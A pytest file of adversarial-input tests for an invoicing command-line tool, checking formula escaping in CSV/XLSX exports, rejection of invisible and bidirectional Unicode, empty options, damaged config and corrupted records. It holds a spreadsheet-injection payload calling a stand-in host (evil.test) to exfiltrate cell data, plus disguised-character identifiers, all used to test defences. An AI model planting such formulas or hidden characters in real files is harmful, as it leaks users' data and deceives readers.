"""The sixth adversarial run (issue 19): what a careless or hostile user types never corrupts the
store, never shows an internal error, and never runs or hides itself where it is shown again (a
spreadsheet, a terminal, a PDF page). Each refusal is one `error:` line, its exit code and the
store unchanged, on both backends where a store is involved.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from pathlib import Path

import pytest
from cli_support import (
    IN_FORCE,
    copied,
    ok,
    passphrase_by_default,
    recorded_template,
    refused,
    run,
    snapshot,
    use_database,
    warned,
)

KEYED = {"TRATOS_KEY_PASSPHRASE": "s3cret passphrase"}
HISTORY = IN_FORCE + [
    ("invoice", "issue", "acme", "--installment", "1", "--on", "2026-01-15"),        # F-2026-001
]


@pytest.fixture(scope="module", autouse=True)
def _keyed() -> Iterator[None]:
    """The store has a signing key: each invoice signs its billing record with it (ADR-59)."""
    with passphrase_by_default(KEYED["TRATOS_KEY_PASSPHRASE"]):
        yield


def template(module_store, backend: str):
    """acme in force with a signing key and one invoice: once per backend."""
    return recorded_template(module_store, backend, "hostile-sixth-run", HISTORY, KEYED)


@pytest.fixture
def acme(module_store, store) -> Iterator[Path]:
    """The template's private copy per test and backend."""
    with copied(template(module_store, store.backend), store) as home:
        yield home


# ------------------------------------------------------------- 3: formulas in the book of invoices

FORMULA = '=HYPERLINK("http://evil.test/?x="&A1,"Click")'


def test_a_name_like_a_formula_is_text_in_the_book_of_invoices(acme: Path, tmp_path: Path) -> None:
    from openpyxl import load_workbook

    ok(acme, "client", "update", "acme", "--name", FORMULA, "--on", "2026-03-01")
    ok(acme, "invoice", "issue", "acme", "--amount", "10EUR", "--on", "2026-03-02")
    ok(acme, "invoice", "book", "--year", "2026", "-o", str(tmp_path / "b.xlsx"))
    sheet = load_workbook(tmp_path / "b.xlsx").active
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value == FORMULA]
    assert cells and all(cell.data_type == "s" for cell in cells)
    assert not [cell for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]

    ok(acme, "invoice", "book", "--year", "2026", "-o", str(tmp_path / "b.csv"))
    text = (tmp_path / "b.csv").read_text(encoding="utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(text), delimiter=";") for cell in row]
    assert "'" + FORMULA in cells
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "@", "\t", "\r")]
    assert not [cell for cell in cells if cell[:1] == "-" and not cell[1:2].isdigit()]  # -10,00 is an amount


# ------------------------------------------------- 20: every error line escaped in one place

TYPED_IDS = [
    ("payment", "record", "acme", "F\u202e100-6202-F", "1EUR"),
    ("change", "approve", "acme", "C\u200b1"),
    ("mistake", "ack", "acme", "M\u20661"),
    ("contract", "sign", "acme", "--contract", "K\u202e1", "--by", "us"),
]


@pytest.mark.parametrize("args", TYPED_IDS, ids=["invoice", "change", "mistake", "contract"])
def test_an_error_line_never_carries_an_invisible_or_reordering_character(acme: Path, args) -> None:
    outcome = run(acme, *args)
    assert outcome.code != 0 and len(outcome.stderr_lines) == 1 and outcome.stderr.startswith("error: ")
    hidden = next(char for char in "".join(args) if not char.isascii())
    assert hidden not in outcome.stderr
    assert f"\\u{ord(hidden):04x}" in outcome.stderr, outcome.stderr


def test_the_stderr_printer_escapes_the_whole_line(capsys: pytest.CaptureFixture[str]) -> None:
    from cli.output import say, warn

    say("error: acme has no invoice F\u202e100-6202-F\u3164 (it has\nF-2026-001)")
    warn("hours of 'x\u200b'")
    lines = capsys.readouterr().err.splitlines()
    assert lines == ["error: acme has no invoice F\\u202e100-6202-F\\u3164 (it has F-2026-001)",
                     "warning: hours of 'x\\u200b'"]


# ------------------------------------------------- 19: characters that draw nothing, in names

BLANK = ["\u3164", "\u115f", "\u1160", "\uffa0", "\u2800", "\ufffc", "\u17b4", "\u17b5", "\u034f",
         "Acme\ufe0f", "Acme\U000e0100", "\u0301\u0301", "A\u034fcme"]


@pytest.mark.parametrize("name", BLANK, ids=[name.encode("unicode_escape").decode() for name in BLANK])
def test_a_name_that_draws_nothing_or_hides_is_refused(acme: Path, name: str) -> None:
    says = "starts with a combining mark" if name[0] == "\u0301" else "contains an invisible"
    refused(acme, ("client", "open", "v", "--name", name), 2, says)


@pytest.mark.parametrize("name", ["Caf\u00e9 \u2764\ufe0f", "\u845b\U000e0100 SL", "Cafe\u0301"])
def test_selectors_and_marks_where_they_spell_are_kept(acme: Path, name: str) -> None:
    ok(acme, "client", "open", "v", "--name", name)


def test_a_filler_recorded_before_the_policy_still_imports() -> None:
    """Re-deciding (import) reads what a tratos before ADR-54 recorded: not refused for a filler."""
    from domain.model.errors import BadInput
    from domain.model.values import Party, check_text, texts_as_recorded, texts_of_the_first_policy

    with pytest.raises(BadInput):
        check_text("\u3164", "name")
    with texts_of_the_first_policy():
        assert Party(name="Acme\ufe0f \u3164").name == "Acme\ufe0f \u3164"
    with texts_as_recorded():
        assert check_text("\u3164x", "name") == "\u3164x"


# ------------------------------------------------- 7: every option given empty is refused

EMPTY = [
    ("terms", "publish", "acme", "--rate", "", "--payment-days", "30"),
    ("terms", "publish", "acme", "--rate", "60/h", "--hours", ""),
    ("terms", "publish", "acme", "--rate", "60/h", "--confidentiality", ""),
    ("mistake", "report", "acme", "Typo", "--by", "client", "--evidence", ""),
    ("hours", "log", "acme", "2", "--note", ""),
    ("end", "acme", "--reason", "Done", "--confidentiality", ""),
]


@pytest.mark.parametrize("args", EMPTY, ids=["rate", "hours", "confidentiality", "evidence", "note", "end"])
def test_an_option_given_empty_is_refused(acme: Path, args: tuple[str, ...]) -> None:
    flag = args[args.index("") - 1]
    refused(acme, args, 2, f"{flag} is empty: give it a value, or leave the option out")


def test_no_option_of_any_command_reads_empty_as_not_given() -> None:
    import click

    from cli.main import COMMANDS, tratos
    from cli.options import not_empty

    def options(command: click.Command):
        yield from (p for p in command.params if isinstance(p, click.Option) and not p.is_flag and not p.required)
        for sub in getattr(command, "commands", {}).values():
            yield from options(sub)

    with click.Context(tratos) as ctx:
        found = [option for name in COMMANDS for option in options(tratos.get_command(ctx, name))]
    assert len(found) > 60
    assert all(o.callback is not_empty or o.callback.__name__ == "checked" for o in found)


# ------------------------------------------------- 8, 9, 10: identity.json, checked as it is written and read

def test_init_checks_a_tax_id_as_identity_invoicing_does(acme: Path) -> None:
    refused(acme, ("init", "--name", "X", "--email", "x@y.z", "--force", "--tax-id", "bad"), 2,
            "your tax id 'bad' is not a valid Spanish NIF")


def test_a_rate_is_kept_and_shown_as_typed_never_in_exponent_form(acme: Path) -> None:
    import json

    shown = ok(acme, "identity", "invoicing", "--vat", "10%").stdout
    assert "VAT 10%" in shown and "E+" not in shown
    assert json.loads((acme / "identity.json").read_text())["vat_rate"] == "10"


DAMAGED = "identity.json is damaged (its vat_rate is not a Spanish VAT rate"  # the first field read (ADR-61)


@pytest.mark.parametrize("args", [("pdf", "terms", "acme"), ("pdf", "contract", "acme"), ("pdf", "dossier", "acme"),
                                  ("remind", "acme", "F-2026-001"), ("invoice", "issue", "acme", "--amount", "10EUR")],
                         ids=["terms", "contract", "dossier", "remind", "invoice"])
def test_a_withholding_that_is_not_a_number_is_a_damaged_identity_everywhere(acme: Path, tmp_path: Path,
                                                                             args: tuple[str, ...]) -> None:
    path = acme / "identity.json"
    path.write_text(path.read_text().replace('"withholding": "0"', '"withholding": "abc"').replace(
        '"vat_rate": "0"', '"vat_rate": "abc"'))
    assert "abc" in path.read_text()
    output = ("-o", str(tmp_path / "out.pdf")) if args[0] in ("pdf", "remind") else ()
    refused(acme, (*args, *output), 1, DAMAGED, env=KEYED)
    assert not (tmp_path / "out.pdf").exists()


def test_identity_invoicing_mends_a_damaged_rate(acme: Path) -> None:
    path = acme / "identity.json"
    path.write_text(path.read_text().replace('"vat_rate": "0"', '"vat_rate": "abc"'))
    refused(acme, ("identity", "invoicing", "--withholding", "15%"), 1, DAMAGED)  # the VAT rate is still damaged
    ok(acme, "identity", "invoicing", "--vat", "21%")
    ok(acme, "pdf", "terms", "acme", "-o", str(acme / "t.pdf"), env=KEYED)


# ------------------------------------------------- 11: bytes that are not UTF-8 text

@pytest.fixture
def exported(module_store, store, tmp_path: Path) -> str:
    """The template's export; the test's own store stays empty, to import into."""
    spec = template(module_store, store.backend)
    path = tmp_path / "all.jsonl"
    with use_database(Path(spec.home), spec.database_url) as home:
        ok(home, "export", str(path))
    return path.read_text(encoding="utf-8")


def test_an_import_holding_a_lone_surrogate_escape_is_refused_by_line(exported: str, store, tmp_path: Path) -> None:
    path = tmp_path / "e.jsonl"
    path.write_text(exported.replace("Acme Consulting SL", "Acme \\ud800 SL", 1), encoding="utf-8")
    with use_database(Path(store.home), store.database_url) as empty:
        before = snapshot(empty)
        refused(empty, ("import", str(path)), 2, "e.jsonl line 2 holds a text that is not valid UTF-8 text")
        assert snapshot(empty) == before


@pytest.mark.parametrize("variable", ["TRATOS_DATABASE_URL", "TRATOS_HOME", "TRATOS_TODAY"])
def test_an_environment_variable_that_is_not_utf8_is_named(acme: Path, tmp_path: Path, variable: str) -> None:
    import os

    where = tmp_path / "homes"
    where.mkdir()
    value = os.fsdecode(b"postgresql://\xff@127.0.0.1/test" if variable == "TRATOS_DATABASE_URL"
                        else bytes(where) + b"/\xffx")
    refused(acme, ("status",), 2, f"the environment variable {variable} is not UTF-8 text", env={variable: value})
    assert list(where.iterdir()) == []


# ------------------------------------------------- 12: a stored record that cannot be read

def spoil_a_record(home: Path) -> None:
    """Write a stored payment's state as bytes that are not JSON, behind tratos's back."""
    from cli_support import database_of

    sql = ("update stored_events set state = {blob} where originator_version ="
           " (select max(originator_version) from stored_events where topic like '%InvoiceIssued')")
    url = database_of(home)
    if url is None:
        import sqlite3

        with sqlite3.connect(home / "tratos.sqlite") as db:
            db.execute(sql.format(blob="cast('{not json' as blob)"))
        return
    import psycopg

    from domain.adapters.storage import PostgresLocation

    location = PostgresLocation.parse(url)
    with psycopg.connect(**location.connect_kwargs(), autocommit=True) as connection:
        schema = location.schema or "public"
        [(table,)] = connection.execute("SELECT table_name FROM information_schema.tables WHERE table_schema = %s"
                                        " AND table_name LIKE %s", (schema, "%\\_events")).fetchall()
        connection.execute(f'set search_path to "{schema}"')
        connection.execute(sql.replace("stored_events", f'"{table}"').format(blob="convert_to('{not json', 'UTF8')"))


def test_a_record_that_is_not_json_is_named_on_every_read_path(acme: Path, tmp_path: Path) -> None:
    spoil_a_record(acme)
    says = "cannot be read (not JSON): run `tratos audit verify`"
    reading = [("status", "acme"), ("status",), ("timeline", "acme")]  # from the read models, if made
    answers = [run(acme, *args) for args in reading]
    for args in [("rebuild",), ("export", str(tmp_path / "e.jsonl")), ("note", "acme", "Called")]:
        stderr = refused(acme, args, 1, says)
        assert stderr.startswith("error: the record "), stderr
    for args, answer in zip(reading, answers, strict=True):  # as before the rebuild (ADR-88)
        again = run(acme, *args)
        assert (again.code, again.stdout, again.stderr) == (answer.code, answer.stdout, answer.stderr)
        if again.code:
            assert again.stderr.startswith("error: the record ") and says in again.stderr, again.stderr


# ------------------------------------------------- 13, 14: output places checked before anything is written

@pytest.mark.parametrize("folder", ["f/ev", "/dev/null", "nodir/ev"], ids=["through-a-file", "device", "no-parent"])
def test_an_evidence_folder_that_cannot_be_is_refused_before_the_export(acme: Path, tmp_path: Path,
                                                                         monkeypatch: pytest.MonkeyPatch,
                                                                         folder: str) -> None:
    monkeypatch.chdir(tmp_path)
    (tmp_path / "f").write_text("a file")
    (tmp_path / "e.jsonl").write_text("an earlier export\n")
    says = {"f/ev": "cannot write into f/ev: Not a directory", "/dev/null": "it is a device, not a folder",
            "nodir/ev": "there is no folder"}[folder]
    refused(acme, ("export", "e.jsonl", "--with-evidence", folder), 2, says)
    assert (tmp_path / "e.jsonl").read_text() == "an earlier export\n"


@pytest.mark.parametrize("args", [("invoice", "book", "--year", "2026", "-o"), ("pdf", "terms", "acme", "-o"),
                                  ("remind", "acme", "F-2026-001", "-o"), ("export",)],
                         ids=["book", "pdf", "remind", "export"])
def test_a_dangling_link_into_no_folder_is_refused_as_a_missing_folder(acme: Path, tmp_path: Path,
                                                                        args: tuple[str, ...]) -> None:
    suffix = {"invoice": ".csv", "export": ".jsonl"}.get(args[0], ".pdf")
    link = tmp_path / f"out{suffix}"
    link.symlink_to(tmp_path / "nodir" / "deeper" / f"x{suffix}")
    refused(acme, (*args, str(link)), 2, f"there is no folder {tmp_path / 'nodir' / 'deeper'}; create it first",
            env=KEYED)
    assert not (tmp_path / "nodir").exists()


# ------------------------------------------------- 17: a home that is not there

@pytest.mark.parametrize("args", [("status",), ("client", "list"), ("timeline", "acme"), ("rebuild",),
                                  ("invoice", "book", "--year", "2026")],
                         ids=["status", "client-list", "timeline", "rebuild", "book"])
def test_a_reading_command_on_a_home_that_is_not_there_names_it(tmp_path: Path, args: tuple[str, ...]) -> None:
    home = tmp_path / "no" / "such" / "home"
    outcome = run(home, *args)
    assert outcome.code == 2 and len(outcome.stderr_lines) == 1, outcome.stderr
    assert outcome.stderr.startswith(f"error: no tratos home at {home}: run `tratos init` there"), outcome.stderr
    assert not (tmp_path / "no").exists()


@pytest.mark.parametrize("args", [("init", "--name", "Ana", "--email", "ana@example.com"),
                                  ("client", "open", "acme", "--name", "Acme SL")], ids=["init", "client-open"])
def test_what_starts_a_store_still_makes_its_home(tmp_path: Path, args: tuple[str, ...]) -> None:
    home = tmp_path / "new" / "home"
    ok(home, *args)
    assert home.is_dir()


# ------------------------------------------------- 22: more hours in a day than it has

def test_more_than_24_hours_on_one_day_is_a_warning_not_a_refusal(acme: Path) -> None:
    outcome = ok(acme, "hours", "log", "acme", "24", "--on", "2026-03-02")
    assert outcome.stderr == ""
    line = warned(acme, "hours", "log", "acme", "24", "--on", "2026-03-02")
    assert "48 h are now logged for acme on 2026-03-02, more than a day has" in line
    assert warned(acme, "hours", "log", "acme", "0:30", "--on", "2026-03-02").startswith("warning: 48.5 h")
    assert ok(acme, "hours", "log", "acme", "8", "--on", "2026-03-03").stderr == ""


# ------------------------------------------------- 18: a long word stays on the page

LONG_WORD = "W" * 80
LONG_NAME = "Acme" + "X" * 196


def ink_right_edge(pdf: Path) -> float:
    """How far right the first page's ink reaches, as a fraction of the page's width (pypdfium2)."""
    import pypdfium2

    page = pypdfium2.PdfDocument(str(pdf))[0]
    image = page.render(scale=1).to_pil().convert("L")
    width, height = image.size
    pixels = image.load()
    inked = [x for x in range(width) for y in range(0, height, 2) if pixels[x, y] < 200]
    return max(inked) / width


@pytest.mark.parametrize("kind", ["invoice", "contract"])
def test_a_long_word_breaks_inside_its_column_and_the_amounts_stay_on_the_page(acme: Path, tmp_path: Path,
                                                                               kind: str) -> None:
    from pypdf import PdfReader

    ok(acme, "client", "update", "acme", "--name", LONG_NAME, "--on", "2026-03-01")
    if kind == "invoice":
        ok(acme, "invoice", "issue", "acme", "--line", LONG_WORD, "--quantity", "2", "--unit-price", "100EUR",
           "--on", "2026-03-02")
        args, amount = ("pdf", "invoice", "acme", "F-2026-002"), "200.00"
    else:
        ok(acme, "contract", "draft", "acme", "--title", LONG_WORD, "--scope", LONG_WORD, "--price", "700EUR",
           "--start", "2026-04-01", "--end", "2026-04-30", "--on", "2026-03-02")
        args, amount = ("pdf", "contract", "acme", "K2"), "700.00"
    pdf = tmp_path / "doc.pdf"
    ok(acme, *args, "-o", str(pdf), env=KEYED)
    assert ink_right_edge(pdf) < 1 - 18 / 210  # within the right margin (20 mm of A4's 210)
    text = PdfReader(pdf).pages[0].extract_text()
    assert amount in text.replace(".", "").replace(",", ".")  # 200,00 € in Spanish


# ------------------------------------------------- 21: wording

def test_a_missing_anchor_file_is_said_as_missing(acme: Path) -> None:
    refused(acme, ("audit", "verify", "--anchor-file", "nonexist"), 2, "no anchor file nonexist")


@pytest.mark.parametrize(("args", "says"), [
    (("invoice", "correct", "acme", "", "--amount", "-10EUR", "--reason", "Typo"), "an invoice number is empty"),
    (("change", "approve", "acme", ""), "a change id is empty"),
    (("mistake", "ack", "acme", " "), "a mistake id is empty"),
    (("client", "update", "acme", "--tax-id", "B1234\u202e5674"), "tax id contains a bidirectional"),
], ids=["invoice", "change", "mistake", "tax-id"])
def test_an_id_given_empty_and_a_field_are_named(acme: Path, args: tuple[str, ...], says: str) -> None:
    refused(acme, args, 2, says)


def test_a_due_date_worked_out_beyond_the_calendar_suggests_due(acme: Path) -> None:
    refused(acme, ("invoice", "issue", "acme", "--amount", "10EUR"), 2,
            "the due date 3000-01-30 is out of range: tratos keeps dates from 1900 to 2999 (it is 30 days"
            " after the issue date): give one with --due", env={"TRATOS_TODAY": "2999-12-31"})


@pytest.mark.parametrize(("kind", "says"), [("readonly", "is read-only"), ("locked", "stayed locked by another"
                                                                               " process: try again")])
def test_a_reading_command_on_a_failing_store_does_not_say_nothing_was_recorded(acme: Path, store,
                                                                                 monkeypatch: pytest.MonkeyPatch,
                                                                                 kind: str, says: str) -> None:
    from test_files import driver_error

    import domain.services.application as application

    monkeypatch.setattr(application, "ATTEMPTS", 2)
    if store.backend == "sqlite":
        from eventsourcing.sqlite import SQLiteApplicationRecorder as Recorder
    else:
        from eventsourcing.postgres import PostgresApplicationRecorder as Recorder

    def select_notifications(*_: object, **__: object) -> None:
        raise driver_error(store.backend, kind)

    monkeypatch.setattr(Recorder, "select_notifications", select_notifications)
    for args in [("status",), ("timeline", "acme")]:
        stderr = refused(acme, args, 1, says)
        assert "recorded" not in stderr
    monkeypatch.undo()


def test_said_to_a_reader_drops_only_nothing_was_recorded() -> None:
    from domain.adapters.storage import StoreBusy, StoreFailure, said_to_a_reader

    assert str(said_to_a_reader(StoreFailure("the store at s is full: nothing was recorded"))) == "the store at s is full"
    assert str(said_to_a_reader(StoreFailure("the store at s failed: disk I/O error; nothing was recorded"))) == \
        "the store at s failed: disk I/O error"
    busy = said_to_a_reader(StoreBusy("the store at s stayed locked by another process: nothing was recorded, try again"))
    assert isinstance(busy, StoreBusy) and str(busy) == "the store at s stayed locked by another process: try again"


@pytest.mark.skipif(not Path("/dev/full").exists(), reason="needs /dev/full")
def test_an_export_whose_confirmation_cannot_be_written_says_the_export_was_written(acme: Path,
                                                                                   tmp_path: Path) -> None:
    from test_output import script

    target = tmp_path / "e.jsonl"
    with open("/dev/full", "wb") as full:
        code, stderr = script(acme, "export", str(target), stdout=full)
    assert code == 1
    assert stderr.splitlines() == [f"error: cannot write the output: No space left on device ({target} was"
                                   " written whole)"]
    assert target.read_text().splitlines()[-1].startswith('{"end"') or '"events"' in target.read_text().splitlines()[-1]
